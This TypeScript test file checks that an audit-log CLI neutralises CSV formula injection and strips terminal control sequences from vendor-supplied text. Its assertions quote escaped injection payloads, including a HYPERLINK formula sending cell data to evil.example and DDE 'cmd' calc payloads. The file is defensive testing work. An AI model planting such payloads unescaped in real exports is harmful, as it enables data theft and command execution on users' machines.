// Vendor text through the real binary into a spreadsheet and onto a terminal: CSV cells never
// start a formula, and no control sequence (OSC 8 links, OSC 52 clipboard writes, screen clears)
// reaches a table, a summary, `sources --check` or an error message.
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { baseEnv, runCli } from './helpers.js';
import { ERROR_KEY, GOOD_KEY, startHostileVendor, type HostileVendor } from './hostile-vendor.js';

const AT = new Date(Date.now() - 2 * 3_600_000).toISOString();
let vendor: HostileVendor;
let config: string;

/** Any C0 control but tab/LF, DEL, any C1 control: what a terminal could act on. */
// eslint-disable-next-line no-control-regex -- what a terminal could act on
const TERMINAL_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  vendor = await startHostileVendor(AT);
  const dir = await mkdtemp(join(tmpdir(), 'auditrelay-cli-inject-'));
  config = join(dir, 'auditrelay.config.yaml');
  const source = (id: string, key: string) => ({
    id,
    type: 'kore-ai-for-work',
    baseUrl: vendor.baseUrl,
    credentials: { apiKey: `env:${key}` },
    options: { lagSeconds: 0, maxAttempts: 1 },
  });
  await writeFile(
    config,
    stringify({ sources: [source('hostile', 'GOOD_KEY'), source('failing', 'ERROR_KEY')] }),
  );
});
afterAll(() => vendor?.close());

const run = (args: string[]) =>
  runCli(args, { env: baseEnv({ AUDITRELAY_CONFIG: config, GOOD_KEY, ERROR_KEY }) });
const range = ['--source', 'hostile', '--from', '6h', '--to', 'now'];

describe('CSV injection (real binary)', () => {
  it('--format csv writes no cell a spreadsheet would evaluate', async () => {
    for (const raw of [[], ['--raw']]) {
      const result = await run(['auditlogs', 'fetch', ...range, '--format', 'csv', ...raw]);
      expect(result.code, result.stderr).toBe(0);
      const rows: string[][] = parseCsv(result.stdout, { relax_column_count: true });
      expect(rows.length).toBe(3);
      for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    }
    const result = await run(['auditlogs', 'fetch', ...range, '--format', 'csv']);
    const rows = parseCsv<Record<string, string>>(result.stdout, { columns: true });
    const formula = rows.find((row) => row.eventId === 'formula-1')!;
    expect(formula.actorName).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click me")`);
    expect(formula.actorId).toBe(`'-1+1`);
    expect(formula.action).toBe(`'+cmd|" /C calc"!A0`);
    expect(formula.category).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(formula.targetId).toBe(`'\t=1+1`);
  });
});

describe('terminal control sequences (real binary)', () => {
  it('the table shows vendor text without any control sequence', async () => {
    const result = await run(['auditlogs', 'fetch', ...range, '--format', 'table']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(result.stdout).toContain('botname');
    expect(result.stdout).toContain('delete');
  });

  it('the summary too', async () => {
    const result = await run(['auditlogs', 'fetch', ...range, '--summary', '--samples', '5']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(result.stdout).toContain('hostile / role');
  });

  it('error messages quoting the vendor, and sources --check verdicts', async () => {
    const failed = await run(['auditlogs', 'fetch', '--source', 'failing', '--from', '6h']);
    expect(failed.code).toBe(7);
    expect(failed.stderr).toMatch(/Error: .*bad request here/);
    expect(failed.stderr).not.toMatch(TERMINAL_CONTROL);
    const checked = await run(['auditlogs', 'sources', '--check']);
    expect(checked.code).toBe(8);
    expect(checked.stdout).toMatch(/failing\s+kore-ai-for-work\s+FAILED/);
    expect(checked.stdout).toContain('bad request here');
    expect(checked.stdout + checked.stderr).not.toMatch(TERMINAL_CONTROL);
  });
});
